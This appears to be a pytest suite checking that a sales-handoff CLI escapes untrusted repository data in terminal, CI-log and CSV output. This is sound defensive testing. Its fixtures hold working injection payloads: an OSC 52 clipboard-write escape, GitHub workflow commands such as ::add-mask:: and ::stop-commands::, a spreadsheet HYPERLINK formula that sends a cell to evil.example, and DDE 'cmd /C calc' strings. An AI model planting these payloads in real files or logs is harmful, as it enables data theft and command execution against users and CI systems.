"""Output injection: nothing read from a repository (names, titles, reasons, config keys,
schema titles and choices, file names) becomes a command, markup or an escape sequence in
what handoff writes: terminals, CI logs (a line starting with `::` is a command to the
GitHub runner, `##[…]` one anywhere in a line) or CSV files opened in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import subprocess
import sys
from pathlib import Path

import pytest

from helpers import run_cli

HANDOFF = Path(sys.executable).parent / "handoff"
H, LOST = "20261120-aaaaaa", "20261120-bbbbbb"
FOLDER = "handoffs/2026/11/20"
PATH = f"{FOLDER}/{H}.yaml"
BROKEN = f"{FOLDER}/20261120-cccccc.yaml"

ESC, BEL, CSI8, DEL = "\x1b", "\x07", "\x9b", "\x7f"
OSC52 = f"{ESC}]52;c;aGFja2Vk{BEL}"  # writes "hacked" to the clipboard of a terminal that obeys
CLEAR = f"{ESC}[2J"
RAW_CONTROLS = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")  # what may never reach an output raw

SENDER = "[/]"  # rich markup: a closing tag with nothing open crashed `list` and `report`
RECEIVER = "[link=file:///etc/passwd]Alice[/link]"  # rich markup: became a hyperlink
TITLE = "Quote [bold]now[/bold] ##[error]legacy command"
COMMANDS = ("Second offer wanted\n::error file=README.md,line=1::pwned\n::add-mask::hunter2\n"
            "  ::stop-commands::abc123\n##[error]legacy command")


def _q(text: str) -> str:
    """A YAML double-quoted scalar (JSON's escapes are YAML's)."""
    return json.dumps(text)


def _lead(handoff_id: str = H, *, title: str = "Lead", sender: str = "Alice Sender", receiver: str = "Bob Receiver",
          why: str = "Renewal quote rose 40% and they want a second offer", urgency: str = "high",
          extra_context: str = "") -> str:
    return (f"id: {handoff_id}\nkind: lead\ntitle: {_q(title)}\ncreated: 2026-11-20T10:00:00+09:00\n"
            f"from:\n  name: {_q(sender)}\n  email: alice@example.com\n  team: inside-sales\n"
            f"to:\n  name: {_q(receiver)}\n  email: bob@example.com\n  team: field-sales\n"
            "customer:\n  company: Contoso Ltd\n"
            "context:\n  meeting_at: 2026-11-24T14:00:00+09:00\n"
            f"  why_they_agreed: {_q(why)}\n"
            "  pain_in_their_words: We re-key every order twice, 2 hours a day\n"
            f"  urgency: {_q(urgency)}\n"
            "  urgency_evidence: Renewal deadline on 2026-12-01\n  decision_maker: CFO Mark Liu\n" + extra_context)


def _feedback(handoff_id: str, by: str, reason: str | None = None) -> str:
    """A receipt by `by` and, with a `reason`, a lost outcome."""
    text = (f"handoff: {handoff_id}\nentries:\n"
            f"  - phase: receipt\n    at: 2026-11-20T12:00:00+09:00\n    by:\n      name: {_q(by)}\n"
            "    decision: accepted\n    synthesis: Second offer wanted; CFO decides; renewal 2026-12-01\n")
    if reason is not None:
        text += (f"  - phase: outcome\n    at: 2026-11-21T10:00:00+09:00\n    by:\n      name: {_q(by)}\n"
                 "    outcome: lost\n    rating: 2\n    useful: The renewal date framed the meeting\n"
                 f"    reason: {_q(reason)}\n")
    return text


@pytest.fixture
def hostile_repo(repo):
    """Valid, committed handoffs whose names and title are rich markup and `##[…]`, whose
    free text and loss reason carry workflow commands on lines of their own: one pending,
    received by someone else than the receiver (a warning names the receiver), one lost."""
    repo.write(PATH, _lead(title=TITLE, sender=SENDER, receiver=RECEIVER, why=COMMANDS))
    repo.write(f"{FOLDER}/{H}.feedback.yaml", _feedback(H, by="Mallory ##[error]by"))
    repo.write(f"{FOLDER}/{LOST}.yaml", _lead(LOST, sender=SENDER, receiver=RECEIVER))
    repo.write(f"{FOLDER}/{LOST}.feedback.yaml", _feedback(LOST, by=RECEIVER, reason=COMMANDS))
    repo.commit("hostile handoffs")
    assert run_cli(["check"]).exit_code == 0, run_cli(["check"]).output  # all of it is allowed in
    return repo


def _installed(args: list[str], cwd: Path, **env: str) -> subprocess.CompletedProcess:
    """The installed `handoff`, real streams, output as bytes."""
    environment = {**os.environ, "COLUMNS": "200", "NO_COLOR": "1", "TERM": "dumb", **env}
    return subprocess.run([str(HANDOFF), *args], cwd=cwd, env=environment, capture_output=True, timeout=120,
                          check=False)


def _no_command_lines(text: str) -> None:
    """No line is a workflow command: none begins with `::` (the runner skips leading
    blanks), and no `##[` appears anywhere (the runner's legacy form, read mid-line)."""
    for line in text.splitlines():
        assert not line.lstrip().startswith("::"), line
    assert not re.search(r"##(?:vso)?\[(?!\\)", text), text


# ---------------------------------------------------------------- 1. control characters

def test_the_sanitiser_shows_every_control_character():
    """The one sanitiser (sanitize.py): every C0 and C1 control and DEL becomes a
    visible escape (CR, LF, TAB by name on one line; LF and TAB kept in a block); ordinary
    text comes back as the very same object; sanitising twice changes nothing more."""
    from handoff_cli.sanitize import sanitize, sanitize_block

    for code in [*range(0x20), 0x7F, *range(0x80, 0xA0)]:
        shown = sanitize(f"a{chr(code)}b")
        assert not RAW_CONTROLS.search(shown) and "\n" not in shown and "\t" not in shown, (code, shown)
        assert shown == {9: "a\\tb", 10: "a\\nb", 13: "a\\rb"}.get(code, f"a\\u{code:04x}b")
    assert sanitize_block("one\ntwo\tthree\r") == "one\ntwo\tthree\\r"
    assert sanitize_block("ok\n  ::error::x") == "ok\\n  ::error::x"  # no line of its own for a command
    ordinary = "佐藤 花子 (field-sales) — 2026-11-20: \"quote\" [not markup here] 100%"
    assert sanitize(ordinary) is ordinary and sanitize_block(ordinary) is ordinary
    for hostile in (OSC52 + CLEAR, "##[error]x", "a\r\n::add-mask::y"):
        assert sanitize(sanitize(hostile)) == sanitize(hostile)


@pytest.mark.parametrize("fmt", ["text", "github"])
def test_escape_sequences_in_findings_are_shown_not_sent(repo, fmt):
    """ESC (OSC 52 clipboard write, clear screen), C1 CSI and DEL in a value, a context key and
    a file name reach `check`'s findings as visible `\\u001b`-style escapes, never raw bytes."""
    hostile = f"high{OSC52}{CLEAR}{CSI8}31m{DEL}"
    repo.write(PATH, _lead(urgency=hostile, extra_context=f"  {_q('x' + CLEAR)}: 1\n"))
    repo.write(f"{FOLDER}/{CLEAR}evil.yaml", _lead())
    done = _installed(["check", "--format", fmt], repo.path)
    assert done.returncode == 1, done.stderr
    out = done.stdout.decode()
    assert not RAW_CONTROLS.search(out), out
    # the value: the reader's finding names the character, and no second finding echoes the value
    urgency = [line for line in out.splitlines() if "context.urgency" in line]
    assert len(urgency) == 1 and "control character U+001B" in urgency[0]
    assert "context.x\\u001b[2J" in out  # the field
    assert f"{FOLDER}/\\u001b[2Jevil.yaml" in out  # the file
    if fmt == "github":  # each line one annotation (or the summary), nothing else
        lines = out.splitlines()
        assert all(line.startswith("::error file=") for line in lines[:-1]) and "findings" in lines[-1]


# ---------------------------------------------------------------- 2. rich markup

def _colour(**more) -> dict:
    """A colour terminal, where markup would become styles and hyperlinks (OSC 8)."""
    return {"NO_COLOR": None, "FORCE_COLOR": "1", "TERM": "xterm-256color", **more}


@pytest.mark.parametrize("args", [["list"], ["show", H], ["report", "--as-of", "2026-11-24"]],
                         ids=["list", "show", "report"])
@pytest.mark.parametrize("terminal", ["plain", "colour"])
def test_markup_in_data_is_shown_as_text(hostile_repo, args, terminal):
    """A name `[/]` no longer crashes the table (rich MarkupError), and `[link=…]…[/link]`
    is shown as typed, never a hyperlink: every cell from data is plain `Text`."""
    if args[0] == "report":
        args = [*args, "--by", "pair"]  # a group cell names both people
    result = run_cli(args, env=_colour() if terminal == "colour" else None)
    assert result.exit_code == 0, result.output
    shown = re.sub("\x1b\\[[0-9;]*m", "", result.stdout)  # colour, if any, aside
    assert SENDER in shown and RECEIVER in shown and "[bold]now[/bold]" in shown
    assert "\x1b]8;" not in result.stdout  # no hyperlink


def test_markup_in_a_demo_path_is_shown_as_text(tmp_path):
    folder = tmp_path / "[bold]demo [/]"
    result = run_cli(["demo", str(folder)])
    assert result.exit_code == 0, result.output
    assert f"Demo repository: {folder}" in result.stdout


# ---------------------------------------------------------------- 3. workflow commands

@pytest.mark.parametrize("args", [["list"], ["show", H], ["report", "--as-of", "2026-11-24"], ["check"],
                                  ["list", "--format", "csv"], ["report", "--format", "csv", "--table", "funnel"]],
                         ids=["list", "show", "report", "check", "list-csv", "report-csv"])
def test_workflow_commands_in_data_never_start_a_line(hostile_repo, args):
    """`\\n::error …`, `\\n::add-mask::…`, `\\n::stop-commands::…` in free text and a loss
    reason, and `##[error]` in a title and names: on no line of stdout or stderr a command."""
    done = _installed(args, hostile_repo.path)
    assert done.returncode == 0, done.stderr
    for stream in (done.stdout.decode(), done.stderr.decode()):
        _no_command_lines(stream)
    if args[0] == "show":  # the value keeps its ordinary line breaks, the command lines are joined
        assert "Second offer wanted\\n::error file=README.md,line=1::pwned\\n::add-mask::hunter2" in done.stdout.decode()
    if args[0] == "report" and "csv" not in args:
        assert "not by the receiver" in done.stderr.decode()


def test_hostile_config_key_is_one_escaped_annotation(repo):
    """A configuration error under `check --format github` is one `::error` annotation on
    the file and line it names, its value escaped; still exit 2. In text, one escaped line."""
    repo.write(".handoff.yaml", f"version: 1\n{_q('bad' + chr(10) + '::add-mask::hunter2 ##[error]x')}: 3\n")
    done = _installed(["check", "--format", "github"], repo.path)
    assert done.returncode == 2
    err = done.stderr.decode()
    assert err.count("\n") == 1 and not RAW_CONTROLS.search(err), err
    assert err.startswith("::error file=.handoff.yaml,line=2,col=1,title=handoff::.handoff.yaml:2:1: "
                          "bad\\n::add-mask::hunter2 ##[\\error]x: unknown setting%0Ahint: known settings: "), err
    text = _installed(["check"], repo.path)
    assert text.returncode == 2
    assert text.stderr.decode().splitlines()[0] == (
        "error: .handoff.yaml:2:1: bad\\n::add-mask::hunter2 ##[\\error]x: unknown setting")


def test_schema_error_is_an_annotation_on_its_file(repo):
    repo.write(".handoff.yaml", "version: 1\nkinds:\n  rfq: schemas/rfq.schema.json\n")
    done = _installed(["check", "--format", "github"], repo.path)
    assert done.returncode == 2
    assert done.stderr.decode() == ("::error file=schemas/rfq.schema.json,title=handoff::schemas/rfq.schema.json: "
                                    "schema file not found%0Ahint: fix the path under `kinds:` in .handoff.yaml\n")


def _fenced(text: str) -> tuple[str, str]:
    """The token and what is between `::stop-commands::<token>` and `::<token>::`."""
    lines = text.splitlines()
    start = re.fullmatch(r"::stop-commands::([0-9a-f]{32})", lines[0])
    assert start, lines[:1]
    assert lines[-1] == f"::{start[1]}::", lines[-1:]
    return start[1], "\n".join(lines[1:-1])


@pytest.mark.parametrize("args", [["list"], ["show", H], ["report", "--as-of", "2026-11-24"], ["check"]],
                         ids=["list", "show", "report", "check"])
def test_under_github_actions_output_is_fenced_off(hostile_repo, args):
    """With GITHUB_ACTIONS=true, text that echoes data sits between `::stop-commands::` and
    its random token on stdout and on stderr, so the runner reads none of it as a command."""
    hostile_repo.write(BROKEN, "id: [\n")  # a finding: `list`/`report` add a note
    done = _installed(args, hostile_repo.path, GITHUB_ACTIONS="true")
    out = done.stdout.decode()
    token, inside = _fenced(out)
    assert token not in inside and inside.strip()
    if args[0] in ("list", "report"):
        assert _fenced(done.stderr.decode())[0] == token  # the note, the warnings
    again = _installed(args, hostile_repo.path, GITHUB_ACTIONS="true")
    assert _fenced(again.stdout.decode())[0] != token  # never guessable from one run to the next


def test_under_github_actions_annotations_and_data_formats_stay_as_they_are(hostile_repo):
    """`--format github` annotations must stay commands; JSON, CSV and a new id are for
    programs and are not fenced; an error is."""
    hostile_repo.write(BROKEN, "id: [\n")
    annotations = _installed(["check", "--format", "github"], hostile_repo.path, GITHUB_ACTIONS="true")
    assert annotations.stdout.decode().startswith(f"::error file={BROKEN},")
    listed = _installed(["list", "--format", "json"], hostile_repo.path, GITHUB_ACTIONS="true")
    assert {row["id"] for row in json.loads(listed.stdout)["handoffs"]} == {H, LOST}
    assert _fenced(listed.stderr.decode())[1].startswith("note: files with findings are not listed (1)")
    failed = _installed(["show", "zzzzzz"], hostile_repo.path, GITHUB_ACTIONS="true")
    assert failed.returncode == 2 and failed.stdout == b""
    assert _fenced(failed.stderr.decode())[1].startswith("error: no handoff matches 'zzzzzz'")


# ---------------------------------------------------------------- 4. CSV formulas

FORMULAS = {"title": '=HYPERLINK("http://evil.example/?"&A1,"open")', "sender": "+cmd|' /C calc'!A0",
            "receiver": "@SUM(1+1)*cmd|' /C calc'!A0", "why": "-2+3+cmd|' /C calc'!A0"}


def test_csv_cells_never_start_a_formula(repo):
    """Text cells starting with = + - @ or TAB get a leading `'` (OWASP) in `list` and
    `report` CSV; numbers stay numbers."""
    repo.write(PATH, _lead(title=FORMULAS["title"], sender=FORMULAS["sender"], receiver=FORMULAS["receiver"]))
    repo.write(f"{FOLDER}/{LOST}.yaml", _lead(LOST, title="\tTabbed =1+1"))
    repo.commit("formulas")
    assert run_cli(["check"]).exit_code == 0
    listed = {row["id"]: row for row in csv.DictReader(io.StringIO(run_cli(["list", "--format", "csv"]).stdout))}
    row = listed[H]
    assert (row["title"], row["from"], row["to"]) == ("'" + FORMULAS["title"], "'" + FORMULAS["sender"],
                                                      "'" + FORMULAS["receiver"])
    assert listed[LOST]["title"] == "'\\tTabbed =1+1"  # the tab shown, and no formula
    assert listed[LOST]["from"] == "Alice Sender"  # ordinary text as it was

    def report(table: str, *more: str) -> list[dict]:
        text = run_cli(["report", "--format", "csv", "--table", table, "--as-of", "2026-11-24", *more]).stdout
        return list(csv.DictReader(io.StringIO(text)))

    pending = {r["id"]: r for r in report("pending")}
    assert pending[H]["title"] == "'" + FORMULAS["title"] and pending[H]["receiver"] == "'" + FORMULAS["receiver"]
    assert {r["group"] for r in report("quality", "--by", "sender")} == {"'" + FORMULAS["sender"], "Alice Sender"}
    scores = {r["id"]: r for r in report("scores")}
    assert scores[H]["sender"] == "'" + FORMULAS["sender"]
    float(scores[H]["quality"])  # a number, unprefixed
    assert not any(value.startswith(("=", "+", "-", "@", "\t", "\r")) for r in scores.values() for value in r.values())


# ---------------------------------------------------------------- 5. JSON round-trips

def test_json_round_trips_hostile_text_exactly(hostile_repo):
    """JSON is for programs: the hostile title and names come back exactly, yet its bytes
    hold no `##[` for a CI runner to obey."""
    done = _installed(["list", "--format", "json"], hostile_repo.path)
    row = next(row for row in json.loads(done.stdout)["handoffs"] if row["id"] == H)
    assert (row["title"], row["sender"], row["receiver"]) == (TITLE, SENDER, RECEIVER)
    assert b"##[" not in done.stdout
    shown = _installed(["show", H, "--format", "json"], hostile_repo.path)
    assert json.loads(shown.stdout)["handoff"]["context"]["why_they_agreed"] == COMMANDS
    reported = _installed(["report", "--format", "json", "--as-of", "2026-11-24"], hostile_repo.path)
    data = json.loads(reported.stdout)
    assert data["report"]["funnel"][0]["loss_reasons"] == [f"{LOST}: {COMMANDS}"]
    assert data["report"]["scores"][0]["sender"] == SENDER and b"##[" not in reported.stdout


# ---------------------------------------------------------------- prompts from a custom schema

RFQ_SCHEMA = {
    "$schema": "https://json-schema.org/draft/2020-12/schema",
    "title": "RFQ",
    "allOf": [{"$ref": "urn:handoff:v1:envelope"}],
    "properties": {
        "kind": {"const": "rfq"},
        "context": {
            "type": "object",
            "required": ["parts", "grade"],
            "properties": {
                "parts": {"type": "string", "minLength": 1, "title": f"Parts [/] {OSC52}",
                          "description": f"{RECEIVER} {CLEAR}\n::error::from a description"},
                "grade": {"type": "string", "enum": ["A[/]", f"B{ESC}[31m"], "title": "Grade [link=https://x]y[/link]"},
            },
        },
    },
}


@pytest.mark.parametrize("terminal", ["plain", "colour"])
def test_prompts_from_a_custom_schema_are_plain_text(repo, terminal):
    """A pull request's schema writes the prompts of `handoff new`: its titles, descriptions
    and choices are shown as typed (markup too), control characters escaped, on one line."""
    repo.write(".handoff.yaml", "version: 1\nkinds:\n  rfq: schemas/rfq.schema.json\n")
    repo.write("schemas/rfq.schema.json", json.dumps(RFQ_SCHEMA))
    # from.team, title, to.name/email/team, customer.company/contact/role, parts, grade, open question
    answers = "\nBolts for the line 4 press\nBob\n\n\nContoso\n\n\nM8 bolts\nA[/]\n\n"
    result = run_cli(["new", "rfq", "--prompt"], input=answers, env=_colour() if terminal == "colour" else None)
    assert result.exit_code == 0, result.output
    err = re.sub("\x1b\\[[0-9;]*m", "", result.stderr)
    assert not RAW_CONTROLS.search(err), repr(err)
    assert "Parts [/] \\u001b]52;c;aGFja2Vk\\u0007 (parts): " in err
    assert f"  {RECEIVER} \\u001b[2J\\n::error::from a description\n" in err
    assert "Grade [link=https://x]y[/link] (grade): " in err
    assert "1) A[/]  2) B\\u001b[31m" in err  # the choices, numbered
    assert "\x1b]8;" not in result.stderr
    _no_command_lines(err)
